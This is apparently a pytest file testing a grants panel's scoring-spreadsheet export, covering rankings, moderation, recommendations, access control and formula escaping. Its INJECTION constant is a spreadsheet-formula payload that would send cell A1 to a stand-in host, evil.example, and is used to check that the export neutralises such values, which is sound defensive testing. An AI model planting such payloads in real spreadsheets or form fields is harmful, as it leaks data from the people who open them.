"""The scoring spreadsheet: every sheet bid × member with scores and comments, every bid with its
panel scores, moderation, flags and conflicts; text never turns into a formula."""

from __future__ import annotations

import sys
import types
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from grants.exports.scoring import BID_HEADINGS, RECOMMENDATION, XLSX_MIMETYPE
from grants.interfaces.panel import results as panel_results
from grants.models.types import utcnow
from tests.factories import FundingRoundFactory

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'


@pytest.fixture
def scored(panel_round, bids, panel, seat, submit_scores, users):
    """A and B score bids 1 and 2; C has a conflict on bid 1; bid 2 is moderated; bid 3 is unscored."""
    a, b, c = panel
    seat(a, bids[0], bids[1])
    seat(b, bids[0], bids[1])
    seat(c, conflicted=[bids[0]])
    submit_scores(a, bids[0], comments={"fit": INJECTION, "value": "@SUM(1+1)"}, fit=4, value=3)
    submit_scores(b, bids[0], fit=2, value=2)
    submit_scores(a, bids[1], fit=3, value=3)
    submit_scores(b, bids[1], fit=1, value=1)
    panel_results.moderate(bids[1], "3.5", "+ Panel agreed the budget was misread", users["grants_officer"])
    return panel


@pytest.fixture
def no_decisions_module(monkeypatch):
    """As if grants.interfaces.panel.decisions did not exist."""
    monkeypatch.setitem(sys.modules, "grants.interfaces.panel.decisions", None)


def _download(client, funding_round):
    response = client.get(f"/panel/rounds/{funding_round.id}/scoring.xlsx")
    assert response.status_code == 200
    return response


def _sheet(response, name) -> list[dict]:
    workbook = load_workbook(BytesIO(response.data))
    rows = list(workbook[name].iter_rows())
    headings = [cell.value for cell in rows[0]]
    return [dict(zip(headings, row, strict=True)) for row in rows[1:]]


def _values(row) -> dict:
    return {heading: cell.value for heading, cell in row.items()}


def test_the_response_is_an_xlsx_attachment_never_sniffed_or_cached(as_role, panel_round, no_decisions_module):
    for role in ("grants_officer", "commissioner", "admin"):
        response = _download(as_role(role), panel_round)
        assert response.mimetype == XLSX_MIMETYPE
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment; filename=scoring-community-safety-fund-2026-")
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert "no-store" in response.headers["Cache-Control"]
    assert load_workbook(BytesIO(response.data)).sheetnames == ["Scores", "Bids"]


def test_the_scores_sheet_has_a_row_per_submitted_sheet(as_role, panel_round, bids, scored, no_decisions_module):
    rows = [_values(row) for row in _sheet(_download(as_role("commissioner"), panel_round), "Scores")]
    assert [(row["Reference"], row["Panel member"]) for row in rows] == [
        ("CGS-2026-0001", "Panel Member A"), ("CGS-2026-0001", "Panel Member B"),
        ("CGS-2026-0002", "Panel Member A"), ("CGS-2026-0002", "Panel Member B"),
    ]
    first = rows[0]
    assert first["Organisation"] == "Bidder 1"
    assert first["Strategic fit: score"] == 4 and first["Value for money: score"] == 3
    assert first["Strategic fit: comment"] == "'" + INJECTION  # shown as text, never run
    assert first["Value for money: comment"] == "'@SUM(1+1)"
    assert first["Total (as scored)"] == 3.5
    normalised = panel_results.round_results(panel_round, normalise=True)
    assert Decimal(str(first["Normalised total"])) == normalised.bid(bids[0].id).normalised[scored[0].id]
    assert rows[1]["Value for money: comment"] == "Because"


def test_the_bids_sheet_ranks_every_bid_with_its_scores(as_role, panel_round, bids, scored, no_decisions_module):
    response = _download(as_role("grants_officer"), panel_round)
    rows = _sheet(response, "Bids")
    assert list(rows[0]) == list(BID_HEADINGS)  # no recommendation yet: no column
    values = [_values(row) for row in rows]
    assert [(row["Rank"], row["Reference"]) for row in values] == [
        (1, "CGS-2026-0002"), (2, "CGS-2026-0001"), (None, "CGS-2026-0003"),
    ]
    moderated, flagged, unscored = values
    # Bid 2: raw 3.00 and 1.00, mean 2.00, moderated to 3.50, which ranks it first.
    assert moderated["Panel score (raw)"] == 2 and moderated["Moderated score"] == 3.5
    assert moderated["Final score"] == 3.5
    assert moderated["Moderation reason"] == "'+ Panel agreed the budget was misread"
    assert moderated["Amount requested"] == 3000 and "£" in rows[0]["Amount requested"].number_format
    assert moderated["Scorers"] == 2 and moderated["Conflicts declared"] == 0
    # Bid 1: totals 3.50 and 2.00; fit 4 against 2.
    assert flagged["Panel score (raw)"] == 2.75 and flagged["Moderated score"] is None
    assert flagged["Final score"] == 2.75 and flagged["Conflicts declared"] == 1
    assert flagged["Flags"] == ("Strategic fit: range 2 points (flagged at 2); "
                                "Total: range 1.50 points (flagged at 1)")
    assert flagged["Why it ranks here"] == "Lower final score"  # below bid 2, which was moderated up
    assert moderated["Why it ranks here"] == "Highest final score"
    assert unscored["Why it ranks here"] == "Not ranked: no submitted scores"
    normalised = panel_results.round_results(panel_round, normalise=True)
    assert Decimal(str(flagged["Normalised panel score"])) == normalised.bid(bids[0].id).panel.score
    assert unscored["Scorers"] == 0 and unscored["Panel score (raw)"] is None and unscored["Final score"] is None


def test_no_cell_is_a_formula_and_text_is_typed_as_text(as_role, panel_round, bids, scored, no_decisions_module):
    workbook = load_workbook(BytesIO(_download(as_role("grants_officer"), panel_round).data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]


def test_the_latest_recommendation_adds_a_column(monkeypatch, as_role, panel_round, bids, scored):
    record = types.SimpleNamespace(result={"decisions": [
        {"reference": "CGS-2026-0002", "recommended": True, "reason": "funded", "explanation": "Ranked first"},
        {"reference": "CGS-2026-0001", "recommended": False, "reason": "budget",
         "explanation": "=Not enough budget left"},
    ]})
    fake = types.ModuleType("grants.interfaces.panel.decisions")
    fake.latest_recommendation = lambda funding_round: record if funding_round.id == panel_round.id else None
    monkeypatch.setitem(sys.modules, "grants.interfaces.panel.decisions", fake)
    rows = [_values(row) for row in _sheet(_download(as_role("grants_officer"), panel_round), "Bids")]
    assert [row[RECOMMENDATION] for row in rows] == [
        "Recommended: Ranked first",
        "Not recommended: =Not enough budget left",  # starts with a word, so cannot be a formula
        "Not in the recommendation",
    ]


def test_without_a_recommendation_there_is_no_column(monkeypatch, as_role, panel_round, bids):
    fake = types.ModuleType("grants.interfaces.panel.decisions")
    fake.latest_recommendation = lambda funding_round: None
    monkeypatch.setitem(sys.modules, "grants.interfaces.panel.decisions", fake)
    rows = _sheet(_download(as_role("grants_officer"), panel_round), "Bids")
    assert RECOMMENDATION not in rows[0]


def test_the_normalised_columns_follow_the_round_when_it_normalises(db, as_role, panel_round, bids, scored,
                                                                    no_decisions_module):
    panel_round.normalise_scores = True
    db.session.flush()
    rows = [_values(row) for row in _sheet(_download(as_role("grants_officer"), panel_round), "Bids")]
    results = panel_results.round_results(panel_round)
    for row in rows:
        if row["Rank"] is None:
            continue
        result = next(bid for bid in results.bids if bid.application.reference == row["Reference"])
        assert Decimal(str(row["Normalised panel score"])) == result.panel.score
        assert Decimal(str(row["Final score"])) == result.final_score


def test_an_unpublished_round_or_one_without_a_rubric_cannot_be_exported(as_role):
    officer = as_role("grants_officer")
    for funding_round in (FundingRoundFactory(published_at=None), FundingRoundFactory(rubric=None)):
        assert officer.get(f"/panel/rounds/{funding_round.id}/scoring.xlsx").status_code == 404


def test_others_cannot_download_it(as_role, panel_round):
    for role in ("applicant", "panel_member", "finance_officer"):
        assert as_role(role).get(f"/panel/rounds/{panel_round.id}/scoring.xlsx").status_code == 403


def test_a_decided_round_can_still_be_exported(db, as_role, panel_round, bids, scored, no_decisions_module):
    panel_round.decided_at = utcnow()
    db.session.flush()
    rows = _sheet(_download(as_role("commissioner"), panel_round), "Bids")
    assert len(rows) == 3


def test_a_stored_recommendation_is_read_by_the_decisions_interface(db, as_role, panel_round, bids, scored, users):
    pytest.importorskip("grants.interfaces.panel.decisions")
    from grants.models.panel import FundingRecommendationRecord

    for explanation in ("An older run", "Ranked first and within the budget"):
        db.session.add(FundingRecommendationRecord(
            round_id=panel_round.id, rules={}, created_by_id=users["grants_officer"].id,
            result={"decisions": [{"reference": "CGS-2026-0002", "recommended": True, "reason": "funded",
                                   "explanation": explanation}]},
        ))
        db.session.flush()
    rows = [_values(row) for row in _sheet(_download(as_role("grants_officer"), panel_round), "Bids")]
    assert rows[0][RECOMMENDATION] == "Recommended: Ranked first and within the budget"
    assert rows[1][RECOMMENDATION] == "Not in the recommendation"
